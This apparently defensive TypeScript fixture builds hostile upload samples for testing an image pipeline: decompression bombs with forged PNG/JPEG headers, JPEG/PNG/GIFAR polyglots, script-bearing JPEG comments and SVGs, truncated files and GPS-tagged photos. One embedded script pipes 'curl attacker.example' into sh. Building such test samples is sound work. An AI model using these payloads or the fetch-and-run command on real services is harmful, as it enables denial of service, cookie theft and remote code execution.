/**
 * Hostile uploads, made at test time (nothing binary is committed): decompression bombs, polyglots,
 * files whose name lies, truncated images and photos that carry a location. sharp draws the
 * images, heif-enc (libheif-examples) encodes the HEIC.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { crc32 } from 'node:zlib';
import exifr from 'exifr';
import sharp from 'sharp';

const run = promisify(execFile);

/** Where the location photos say they were taken (the Eiffel Tower). */
export const GPS_LATITUDE = 48.858;
export const GPS_LONGITUDE = 2.2945;
/** Marks the hostile payloads; none of them may reach a stored file. */
export const PAYLOAD_MARKERS = ['<script', 'PK\u0003\u0004', 'evil.js', 'GPSLatitude', 'exif:GPS', 'Spy Camera'];

const GPS_EXIF = {
  IFD0: { Artist: 'Spy Camera', Make: 'Spy Camera' },
  IFD3: {
    GPSLatitudeRef: 'N',
    GPSLatitude: '48/1 51/1 2880/100',
    GPSLongitudeRef: 'E',
    GPSLongitude: '2/1 17/1 4020/100',
  },
};
const GPS_XMP =
  '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
  '<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,51.48N" exif:GPSLongitude="2,17.67E"/>' +
  '</rdf:RDF></x:xmpmeta>';

const HTML_PAYLOAD = '<html><body><script>fetch("/api/me").then(r=>r.text()).then(alert)</script></body></html>';

const canvas = (width = 1280, height = 769) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 60, b: 40 } } });

/** Gaussian noise: a file whose end holds real image data, so cutting it truncates the pixels. */
const noise = (width = 1280, height = 769) =>
  sharp({
    create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
  });

/** A ZIP archive with one stored file, its offsets counted from `base` (where it starts in a polyglot). */
export function zipOf(name: string, content: string, base = 0): Buffer {
  const data = Buffer.from(content);
  const fileName = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  central.writeUInt32LE(base, 42);
  const centralOffset = base + local.length + fileName.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/** `image` with a ZIP appended whose offsets are right for the whole file (a GIFAR-style polyglot). */
const withZip = (image: Buffer): Buffer =>
  Buffer.concat([image, zipOf('evil.js', 'require("child_process").exec("curl attacker.example | sh")', image.length)]);

/** A JPEG with a comment segment (COM) holding HTML right after its start-of-image marker. */
function withJpegComment(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(text);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, body, jpeg.subarray(2)]);
}

/** A small valid PNG whose IHDR (bytes 16..24, CRC fixed) declares `width` x `height`: a decompression bomb. */
export async function pngDeclaring(width: number, height: number): Promise<Buffer> {
  const png = await canvas(10, 10).png().toBuffer();
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

/** A small baseline JPEG whose frame header (SOF0) declares `width` x `height`. */
export async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const jpeg = await canvas(16, 16).jpeg().toBuffer();
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 in the JPEG');
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

/** The GPS position in an image's EXIF (read through sharp, so every format works), or null. */
export async function gpsOf(image: Buffer): Promise<{ latitude: number; longitude: number } | null> {
  const { exif } = await sharp(image, { limitInputPixels: false }).metadata();
  if (!exif) return null;
  const tiff = exif.subarray(0, 6).toString('latin1') === 'Exif\0\0' ? exif.subarray(6) : exif;
  return (await exifr.gps(tiff)) ?? null;
}

export type AttackImages = Awaited<ReturnType<typeof createAttackImages>>;

export async function createAttackImages() {
  const dir = await mkdtemp(join(tmpdir(), 'qurious-attacks-'));
  try {
    const jpeg = await canvas().jpeg().toBuffer();
    const png = await canvas().png().toBuffer();
    const gif = await canvas().gif().toBuffer();
    const noisyJpeg = await noise().jpeg({ quality: 90 }).toBuffer();
    const noisyPng = await noise().png().toBuffer();
    const gpsJpeg = await canvas().jpeg().withExif(GPS_EXIF).withXmp(GPS_XMP).toBuffer();
    const heicSource = join(dir, 'source.jpg');
    const heicFile = join(dir, 'photo.heic');
    await writeFile(heicSource, await canvas(1400, 900).jpeg({ quality: 95 }).withExif(GPS_EXIF).withXmp(GPS_XMP).toBuffer());
    await run('heif-enc', ['-q', '50', heicSource, '-o', heicFile]);
    return {
      /** 50,000 x 50,000 declared (2.5 gigapixels, 7.5 GB decoded) in a few hundred bytes. */
      bombPng: await pngDeclaring(50_000, 50_000),
      /** 65,000 x 65,000 declared in a JPEG frame header. */
      bombJpeg: await jpegDeclaring(65_000, 65_000),
      /** A real, valid 20,000 x 15,000 PNG (300 megapixels, above libvips' own 268-megapixel limit). */
      hugePng: await sharp({
        create: { width: 20_000, height: 15_000, channels: 3, background: { r: 40, g: 120, b: 200 } },
        limitInputPixels: false,
      })
        .png({ compressionLevel: 9 })
        .toBuffer(),
      /** A valid JPEG with a ZIP (holding a script) appended. */
      jpegZip: withZip(jpeg),
      /** A valid JPEG with HTML and script in a comment segment and appended after its end. */
      jpegHtml: Buffer.concat([withJpegComment(jpeg, HTML_PAYLOAD), Buffer.from(HTML_PAYLOAD)]),
      /** A valid PNG with a ZIP appended. */
      pngZip: withZip(png),
      /** GIFAR: a GIF with a JAR (a ZIP) appended; GIF is not an allowed type anyway. */
      gifar: withZip(gif),
      png,
      html: Buffer.from(`<!doctype html>${HTML_PAYLOAD}`),
      svgScript: Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900" onload="alert(document.domain)">' +
          '<script>alert(document.cookie)</script><rect width="1600" height="900" fill="red"/></svg>',
      ),
      /** The first 60% of a noisy JPEG and half of a noisy PNG: valid headers, pixels cut off. */
      truncatedJpeg: noisyJpeg.subarray(0, Math.floor(noisyJpeg.length * 0.6)),
      truncatedPng: noisyPng.subarray(0, Math.floor(noisyPng.length * 0.5)),
      /** A JPEG cut inside its headers. */
      headerOnlyJpeg: noisyJpeg.subarray(0, 300),
      /** Photos with a location in EXIF (GPS IFD) and XMP. */
      gpsJpeg,
      gpsPng: await canvas().png().withExif(GPS_EXIF).toBuffer(),
      gpsWebp: await canvas().webp().withExif(GPS_EXIF).withXmp(GPS_XMP).toBuffer(),
      /** A real HEVC HEIC carrying the source photo's EXIF (with GPS) and XMP. */
      gpsHeic: await readFile(heicFile),
    };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
